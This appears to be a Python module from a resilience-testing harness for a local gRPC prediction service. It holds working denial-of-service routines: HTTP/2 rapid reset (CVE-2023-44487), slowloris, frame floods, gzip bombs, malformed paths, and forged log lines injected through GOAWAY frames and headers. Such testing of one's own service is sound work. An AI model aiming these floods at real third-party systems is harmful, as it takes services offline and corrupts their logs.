"""Attackers without a token: frames, connections and HTTP requests. Each goes on until its process ends."""

from __future__ import annotations

import itertools
import select
import socket
import struct
import time

from bare_http2 import (
    CONTINUATION,
    DATA,
    END_STREAM,
    GOAWAY,
    HEADERS,
    MAGIC,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    call_headers,
    frame,
    header,
)

from attackers.messages import FORGED, forged_debug, health_bomb
from attackers.session import Pace, Session, Target, attend, connect

CHECK = b"/grpc.health.v1.Health/Check"
WATCH = b"/grpc.health.v1.Health/Watch"
CLASSIFY = b"/torso.v1.PredictionService/Classify"
REFLECTION = b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
BAD_PATHS = (b"/\xff", b"/torso.v1.PredictionService/\xc3\x28", b"\xf0\x28\x8c\x28", b"/\xed\xa0\x80/Check")
GZIP = (b"grpc-encoding", b"gzip")


def deaf_watch(target: Target) -> None:
    """8 connections with a window of 0, 32 watches of the server's health on each."""
    target.begin()
    sessions: list[Session] = []
    while True:
        sessions = [session for session in sessions if not session.gone]
        if len(sessions) < 8 and (session := connect(target, window=0)) is not None:
            sessions.append(session)
            for stream in range(1, 65, 2):
                session.call(WATCH, b"", stream)
            target.tally.attempt(32)
        attend(sessions, 0.1)


def bad_path(target: Target) -> None:
    """4 calls a second whose path is not UTF-8, each on a connection of its own."""
    target.begin()
    pace = Pace(4)
    for path in itertools.cycle(BAD_PATHS):
        pace.wait()
        target.tally.attempt()
        if (session := connect(target)) is not None:
            session.begin_call(path, 1, flags=END_STREAM)
            attend([session], 0.1)
            session.close()


def goaway_text(target: Target) -> None:
    """5 times a second forged log lines in GOAWAY, a request id and a path; 20 resets of no call; 18 refused calls."""
    target.begin()
    pace = Pace(5)
    code = struct.pack(">I", 8)
    while True:
        pace.wait()
        for attack in range(3):
            if (session := connect(target)) is None:
                continue
            if attack == 0:
                session.send(frame(GOAWAY, 0, 0, forged_debug()))
            elif attack == 1:
                session.send(*(frame(RST_STREAM, 0, stream, code) for stream in range(1, 41, 2)))
            else:
                session.begin_call(f"/x\n{FORGED}".encode(), 1, flags=END_STREAM)
                session.begin_call(CLASSIFY, 3, (b"x-request-id", f"a\n{FORGED}".encode()), flags=END_STREAM)
                for stream in range(5, 41, 2):
                    session.call(CLASSIFY, b"", stream)
            target.tally.attempt(1 if attack == 0 else 20)
            attend([session], 0.02)
            session.close()


def half_open_http(target: Target) -> None:
    """300 unfinished HTTP requests on the ops port, opened at 100 a second, a header each 5 s; closed ones anew."""
    target.begin()
    pace, halves = Pace(100), dict[socket.socket, float]()
    while True:
        pace.wait()
        if len(halves) < 300:
            try:
                half = socket.create_connection(("127.0.0.1", target.ops_port), timeout=1)
                half.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
                halves[half] = time.monotonic()
                target.tally.attempt()
            except OSError:
                target.tally.answer("no connection")
        for half in _ended(list(halves)):
            try:
                status = half.recv(1000).split(b"\r\n")[0]
            except OSError:
                status = b""
            target.tally.answer(status.decode(errors="replace") or "closed")
            half.close()
            del halves[half]
        for half, since in halves.items():
            if time.monotonic() - since > 5:
                halves[half] = time.monotonic()
                half.send(b"X-More: x\r\n", socket.MSG_NOSIGNAL)


def _ended(sockets: list[socket.socket]) -> list[socket.socket]:
    """Return those to which the server has sent something, or its end."""
    poll = select.poll()
    by_file = {each.fileno(): each for each in sockets}
    for file in by_file:
        poll.register(file, select.POLLIN)
    return [by_file[file] for file, _ in poll.poll(0)]


def idle_strangers(target: Target) -> None:
    """300 idle connections, fewer than the server takes, that answer pings; opened 100 a second, closed ones anew."""
    target.begin()
    sessions: list[Session] = []
    while True:
        sessions = [session for session in sessions if not session.gone]
        for _ in range(min(10, 300 - len(sessions))):
            target.tally.attempt()
            if (session := connect(target)) is not None:
                sessions.append(session)
        attend(sessions, 0.1)


def rapid_reset(target: Target) -> None:
    """400 calls a second that are reset as they begin (CVE-2023-44487), 20 at a time, on one connection."""
    target.begin()
    pace, session, stream = Pace(20), None, 1
    while True:
        pace.wait()
        if session is None or session.gone:
            session, stream = connect(target), 1
        if session is None:
            continue
        for _ in range(20):
            session.begin_call(CLASSIFY, stream)
            session.reset(stream)
            stream += 2
        target.tally.attempt(20)
        attend([session], 0)


def slow_loris(target: Target) -> None:
    """64 connections that send one byte a second: half the preface, half the headers of a call; closed ones anew."""
    target.begin()
    halves = (MAGIC, frame(HEADERS, 0, 1, call_headers(CLASSIFY) + header(b"x-more", b"y" * 100)))
    lorises: dict[Session, bytes] = {}
    while True:
        for session in [session for session, left in lorises.items() if session.gone or not left]:
            session.close()
            del lorises[session]
        while len(lorises) < 64:
            target.tally.attempt()
            half = target.tally.snapshot()["attempts"] % 2
            if (session := connect(target, preface=bool(half))) is None:
                break
            attend([session], 0.02)  # for the server's settings, which are acknowledged
            session.replies = False
            lorises[session] = halves[half]
        for session, left in lorises.items():
            session.send(left[:1])
            lorises[session] = left[1:]
        attend(lorises, 1.0)


def control_flood(target: Target) -> None:
    """500 frames a second, 25 at a time: pings, settings, empty data, windows, header continuations without end."""
    target.begin()
    floods = (
        [frame(PING, 0, 0, bytes(8))] * 25,
        [frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100))] * 25,
        [frame(DATA, 0, 1)] * 25,
        [frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))] * 25,
        [frame(CONTINUATION, 0, 1, header(b"x-more", b"y" * 100) * 10)] * 25,
    )
    for flood in itertools.cycle(floods):
        if (session := connect(target)) is None:
            continue
        continued = flood is floods[-1]
        session.send(frame(HEADERS, 0 if continued else 4, 1, call_headers(WATCH)))
        pace, end = Pace(20), time.monotonic() + 1
        while not session.gone and time.monotonic() < end:
            pace.wait()
            session.send(*flood)
            target.tally.attempt(25)
            attend([session], 0)
        session.close()


def health_bombs(target: Target) -> None:
    """2 calls a second of Check, Watch and reflection, 65 kB that inflate to the largest message."""
    bomb = health_bomb(target.max_message_bytes - 16)
    target.begin()
    pace, kept = Pace(2), list[Session]()
    for path in itertools.cycle((CHECK, WATCH, REFLECTION)):
        pace.wait()
        target.tally.attempt()
        if (session := connect(target)) is not None:
            session.begin_call(path, 1, GZIP)
            session.send_data(1, bomb, ends=True, patience_s=1)
            kept.append(session)
        while len(kept) > 16:
            kept.pop(0).close()
        attend(kept, 0)
